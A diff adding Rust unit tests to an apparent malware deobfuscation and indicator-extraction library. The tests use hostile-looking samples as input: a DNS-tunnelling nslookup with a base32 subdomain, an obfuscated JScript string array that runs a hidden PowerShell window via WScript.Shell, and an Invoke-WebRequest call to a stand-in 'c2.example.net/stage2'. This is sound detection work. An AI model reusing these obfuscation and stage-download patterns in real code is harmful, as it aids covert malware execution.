@@ -50,6 +50,57 @@ mod tests {
         assert!(result.confidence > 0.5);
     }
 
+    #[test]
+    fn test_base32_deobfuscation() {
+        let chain = DeobfuscationChain::new(DeobfuscatorConfig::default());
+        let analyzer = ObfuscationAnalyzer::new();
+
+        let content = "nslookup jbswy3dpeb3w64tmmqqhi2djomqgs4zaobwgc2lo.tunnel.example";
+        let analysis = analyzer.analyze(content);
+        assert!(analysis.detected_techniques.iter()
+            .any(|(tech, _)| matches!(tech, ObfuscationTechnique::Base32Encoding)));
+
+        let result = chain.deobfuscate(content, &analysis).unwrap();
+        assert_eq!(result.deobfuscated, "nslookup Hello world this is plain.tunnel.example");
+
+        // Detected, but left alone with the radix decoders off
+        let config = DeobfuscatorConfig { enable_radix_decoders: false, ..Default::default() };
+        let result = DeobfuscationChain::new(config).deobfuscate(content, &analysis).unwrap();
+        assert_eq!(result.deobfuscated, content);
+    }
+
+    #[test]
+    fn test_script_encoded_deobfuscation() {
+        let chain = DeobfuscationChain::new(DeobfuscatorConfig::default());
+        let analyzer = ObfuscationAnalyzer::new();
+
+        let content = "#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@";
+        let analysis = analyzer.analyze(content);
+        assert_eq!(analysis.recommended_order.first(), Some(&ObfuscationTechnique::ScriptEncoded));
+
+        let result = chain.deobfuscate(content, &analysis).unwrap();
+        assert_eq!(result.deobfuscated, "MsgBox \"Hello\"");
+    }
+
+    #[test]
+    fn test_js_string_array_deobfuscation() {
+        let chain = DeobfuscationChain::new(DeobfuscatorConfig::default());
+        let analyzer = ObfuscationAnalyzer::new();
+
+        let content = "var _0x51a2 = ['Run', 'WScript.Shell', 'powershell -w hidden', 'ActiveXObject'];\n\
+                       var _0x3c = new this[_0x51a2[0x3]](_0x51a2[0x1]);\n\
+                       _0x3c[_0x51a2[0x0]](_0x51a2[0x2], 0x0);";
+        let analysis = analyzer.analyze(content);
+        assert!(analysis.detected_techniques.iter()
+            .any(|(tech, _)| matches!(tech, ObfuscationTechnique::JsObfuscatorIo)));
+
+        let result = chain.deobfuscate(content, &analysis).unwrap();
+        assert_eq!(
+            result.deobfuscated,
+            "var _0x3c = new this.ActiveXObject(\"WScript.Shell\");\n_0x3c.Run(\"powershell -w hidden\", 0);\n"
+        );
+    }
+
     #[test]
     fn test_hex_deobfuscation() {
         let config = DeobfuscatorConfig::default();
@@ -162,4 +213,53 @@ mod tests {
         assert!(iocs.iter().any(|ioc| ioc.contains("192.168.1.1")));
         assert!(iocs.iter().any(|ioc| ioc.contains("C:\\Windows\\System32\\cmd.exe")));
     }
-}
\ No newline at end of file
+
+    #[test]
+    fn test_min_ioc_confidence_drops_loose_domain() {
+        let content = "Invoke-WebRequest https://c2.example.net/stage2 ; fallback cdn-sync.info";
+        let analysis = ObfuscationAnalyzer::new().analyze(content);
+        let domains = |config: DeobfuscatorConfig| -> Vec<String> {
+            DeobfuscationChain::new(config)
+                .deobfuscate(content, &analysis)
+                .unwrap()
+                .metadata
+                .iocs
+                .into_iter()
+                .filter(|ioc| ioc.kind == IocKind::Domain)
+                .map(|ioc| ioc.value)
+                .collect()
+        };
+
+        let default = domains(DeobfuscatorConfig::default());
+        assert!(default.contains(&"c2.example.net".to_string()));
+        assert!(default.contains(&"cdn-sync.info".to_string()));
+
+        let raised = domains(DeobfuscatorConfig { min_ioc_confidence: 0.5, ..Default::default() });
+        assert_eq!(raised, vec!["c2.example.net".to_string()]);
+    }
+
+    #[test]
+    fn test_member_accesses_not_reported_as_domains() {
+        use crate::ml::patterns::PatternDetector;
+
+        let content = "document.write(String.fromCharCode(104, 105));\n\
+                       $wc = New-Object System.Net.WebClient\n\
+                       window.location.href = 'https://landing.example.com/';\n\
+                       var ver = navigator.appVersion;\n\
+                       fallback update-check.info";
+        let detector = PatternDetector::new();
+
+        let legacy = detector.extract_iocs(content);
+        assert!(legacy.iter().all(|ioc| !ioc.contains("document.write")
+            && !ioc.to_lowercase().contains("fromcharcode")
+            && !ioc.to_lowercase().contains("system.net")
+            && !ioc.contains("window.location")
+            && !ioc.contains("navigator.appversion")), "{:?}", legacy);
+        assert!(legacy.contains(&"Domain: landing.example.com".to_string()));
+        assert!(legacy.contains(&"Domain: update-check.info".to_string()));
+
+        // Names not ending in a known TLD are kept, but below the default
+        let scored = detector.extract_scored_iocs("New-Object System.Net.WebClient");
+        assert!(scored.iter().all(|ioc| ioc.confidence < crate::types::DEFAULT_MIN_IOC_CONFIDENCE));
+    }
+}